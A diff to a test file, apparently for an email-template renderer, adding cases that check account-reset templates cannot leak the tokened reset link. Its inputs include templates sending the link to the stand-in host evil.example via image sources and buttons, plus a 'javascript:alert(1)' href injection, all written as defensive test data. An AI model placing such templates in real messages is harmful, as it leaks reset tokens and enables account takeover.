@@ -119,11 +119,14 @@ test.each([
   '<img src="https://evil.example/?{{ link.url | url_encode }}">',
   '<img src="https://evil.example/?{{ link.url | split: "token=" | last }}">',
   '{% button "Go", "https://evil.example/?" | append: link.url %}',
+  '<p>evil.example?({{ link.url }})</p>',
+  '<img src="https://evil.example/a.png" alt="{{ link.url }}">',
 ])('%s does not reveal the link of an account to another site', (body) => {
   const { text, html } = render(`${body}{% button "Reset", link.url %}`, account, '{{ link.url }}')
   expect(text.split('token=sample')).toHaveLength(2)
   expect(html.split('token=sample')).toHaveLength(2)
   expect(html).toContain(`class="button" href="${secret}"`)
+  expect(text + html).not.toMatch(/https:\/\/[^/]*\.invalid/)
   expect(fieldsRefusedBy(validate(body, 'accountReset'))).toMatchObject({
     body: { code: 'NOTIFICATION_LINK_MISSING' },
   })
@@ -132,10 +135,22 @@ test.each([
 test.each([
   '<a href="{{ link.url }}">Reset</a>',
   '<p>Open {{ link.url }}.</p>',
+  '<p>Reset ({{ link.url }})</p>',
+  '<p>Reset:{{ link.url }}</p>',
+  '<p>"{{ link.url }}"</p>',
+  '<b>Link:</b>{{ link.url }}',
+  '<p>Reset ({{ link.url }})</p>{% button "Reset", link.url %}',
   '{% button "Reset", link.url %}',
 ])('%s contains the link of an account', (body) => {
   const { text, html } = render(body, account)
   expect(text).toContain(secret)
   expect(html).toContain(secret)
+  expect(text + html).not.toContain('.invalid')
   expect(validate(body, 'accountReset')).not.toThrow()
+})
+
+test('what follows the link in an address is not the address of a script', () => {
+  const { html } = render('<a href="{{ link.url }}javascript:alert(1)">Reset</a>', account)
+  expect(html).toContain('>Reset</a>')
+  expect(html).not.toMatch(/javascript|\.invalid/)
 })
